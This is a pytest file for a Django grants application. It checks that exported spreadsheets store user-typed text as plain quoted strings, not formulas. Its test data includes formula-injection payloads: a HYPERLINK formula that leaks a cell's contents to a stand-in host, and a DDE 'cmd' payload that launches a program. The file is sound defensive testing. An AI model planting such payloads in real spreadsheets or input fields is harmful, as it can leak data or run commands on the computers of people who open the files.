"""No text typed by a user becomes a live formula in a spreadsheet the application writes.

Each export is downloaded with hostile names and read back with openpyxl: the cell holds the
text exactly as typed, as a string cell (data type "s") with the quote prefix, never a formula.
"""

import datetime
import io
from decimal import Decimal

import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl import Workbook, load_workbook

from associations.budgets.imports import budget_workbook, read_budget_file
from grants.finance import exports
from grants.models import Payment
from grants.xlsx import is_formula_like, safe_cell_value, set_safe_value
from tests.associations.budgets.factories import AssociationBudgetLineFactory, balanced_budget
from tests.factories import AssociationFactory, AuthorityFactory, GrantFactory
from tests.grants.finance.factories import (
    BudgetLineFactory,
    ClawbackFactory,
    CommitmentFactory,
    PaymentFactory,
    convention_with,
    finance_of,
    instructor_of,
)

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://127.0.0.1:9/?leak="&A1,"Cliquez")'
PAYLOADS = [HYPERLINK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "=1+1"]


def read(response):
    assert response.status_code == 200
    content = b"".join(response.streaming_content) if response.streaming else response.content
    return load_workbook(io.BytesIO(content))


def assert_plain_text(cell, expected):
    assert cell.value == expected, cell.coordinate
    assert cell.data_type == "s", (cell.coordinate, cell.data_type)
    assert cell.quotePrefix, cell.coordinate


def no_formula_but_totals(book):
    """Every formula of the workbook is one of the totals rows the export writes itself."""
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    assert str(cell.value).startswith("=SUBTOTAL(9,"), cell.coordinate


def by_header(sheet, row=2):
    return {h.value: c for h, c in zip(sheet[1], sheet[row], strict=True)}


@pytest.fixture
def authority():
    return AuthorityFactory()


@pytest.fixture
def finance(client, authority):
    user = finance_of(authority)
    client.force_login(user)
    return user


@pytest.mark.parametrize("payload", PAYLOADS)
def test_grants_export(client, authority, finance, payload):
    association = AssociationFactory(authority=authority, name=payload)
    grant = GrantFactory(authority=authority, association=association, year=2024, object=payload)
    type(grant).objects.filter(pk=grant.pk).update(budget_imputation=payload)
    book = read(client.get(reverse("grant_export"), {"year": 2024}))
    row = by_header(book["Subventions 2024"])
    for column in ("Association", "Objet", "Imputation citée"):
        assert_plain_text(row[column], payload)
    no_formula_but_totals(book)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_payments_export(client, authority, finance, payload):
    convention = convention_with(association__authority=authority, association__name=payload)
    PaymentFactory(
        convention=convention,
        status=Payment.Status.REJECTED,
        signer_name=payload,
        rejection_reason=payload,
        order_number=payload[:30],
    )
    book = read(client.get(reverse("payment_export"), {"q": payload}))
    row = by_header(book["Versements"])
    for column in ("Association", "Signataire", "Motif du rejet"):
        assert_plain_text(row[column], payload)
    assert_plain_text(row["N° de mandat"], payload[:30])
    # The search typed in the filter (stripped by the form) is repeated on the information sheet.
    about = {r[0].value: r[1] for r in book["Informations"].iter_rows()}
    searched = [cell for label, cell in about.items() if label.startswith("Filtre")]
    assert [cell.value for cell in searched] == [payload.strip()]
    assert_plain_text(searched[0], payload.strip())
    no_formula_but_totals(book)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_budget_lines_export(client, authority, finance, payload):
    BudgetLineFactory(authority=authority, year=2024, label=payload, service_codes=payload)
    book = read(client.get(reverse("budget_line_export"), {"year": 2024}))
    row = by_header(book["Lignes budgétaires"])
    assert_plain_text(row["Libellé"], payload)
    assert_plain_text(row["Codes service"], payload)
    no_formula_but_totals(book)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_clawbacks_export(client, authority, finance, payload):
    convention = convention_with(association__authority=authority, association__name=payload)
    ClawbackFactory(convention=convention, reason=payload, title_number=payload[:30])
    book = read(client.get(reverse("clawback_export")))
    row = by_header(book["Reversements"])
    assert_plain_text(row["Association"], payload)
    assert_plain_text(row["Motif"], payload)
    assert_plain_text(row["N° du titre de recettes"], payload[:30])
    no_formula_but_totals(book)


def test_the_background_export_writes_the_same_safe_cells(authority):
    """The workbook writer itself (used by the background export jobs too)."""
    target = io.BytesIO()
    columns = [exports.Column("Association"), exports.Column("Montant", "money", total=True)]
    rows = [(payload, Decimal("1.00")) for payload in PAYLOADS]
    exports.write_workbook(
        target, title="Test", columns=columns, rows=rows, info=[("Par", HYPERLINK)]
    )
    book = load_workbook(io.BytesIO(target.getvalue()))
    for number, payload in enumerate(PAYLOADS, start=2):
        assert_plain_text(book["Test"].cell(row=number, column=1), payload)
    assert book["Test"].cell(row=len(PAYLOADS) + 2, column=2).value.startswith("=SUBTOTAL")
    assert_plain_text(book["Informations"]["B3"], HYPERLINK)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_the_budget_export_and_template(client, payload):
    budget = balanced_budget()
    AssociationBudgetLineFactory(budget=budget, account="6068", label=payload)
    type(budget.association).objects.filter(pk=budget.association_id).update(name=payload)
    budget.refresh_from_db()
    book = load_workbook(io.BytesIO(budget_workbook(budget)))
    sheet = book["Budget"]
    labels = [row[1] for row in sheet.iter_rows(min_row=5) if row[1].value == payload]
    assert len(labels) == 1
    assert_plain_text(labels[0], payload)
    no_formula_but_totals(book)
    # The template has no user text, and no formula either.
    no_formula_but_totals(load_workbook(io.BytesIO(budget_workbook())))


def test_an_exported_budget_with_a_formula_like_label_imports_back_as_text():
    budget = balanced_budget()
    AssociationBudgetLineFactory(budget=budget, account="6068", label="=1+1", amount=Decimal(5))
    result = read_budget_file(budget_workbook(budget), realised=False)
    assert result.ok, result.errors
    assert ("6068", "=1+1") in [(r.account, r.label) for r in result.rows]


def test_the_helper_leaves_other_values_alone():
    sheet = Workbook(write_only=True).create_sheet()
    for value in ("Minalogic", "a=b", " =1", 12, Decimal("-3.50"), None, datetime.date.today()):
        assert safe_cell_value(sheet, value) is value
    assert not is_formula_like(-3)
    cell = set_safe_value(Workbook().active["A1"], "=1+1")
    assert cell.data_type == "s" and cell.value == "=1+1"


def test_a_paid_payment_row_keeps_its_numbers(client, authority, finance):
    """The protection does not turn real numbers or dates into text."""
    convention = convention_with(association__authority=authority)
    PaymentFactory(
        convention=convention,
        amount=Decimal("52800.00"),
        status=Payment.Status.PAID,
        certified_by=instructor_of(authority),
        certified_at=timezone.now(),
        commitment=CommitmentFactory(grant=convention.grants.get()),
        order_number="M-1",
        order_date=datetime.date(2024, 6, 12),
        ordered_by=finance,
        paid_date=datetime.date(2024, 6, 12),
    )
    row = by_header(read(client.get(reverse("payment_export")))["Versements"])
    assert row["Montant"].value == 52800 and row["Montant"].data_type == "n"
    assert row["N° de mandat"].value == "M-1" and not row["N° de mandat"].quotePrefix
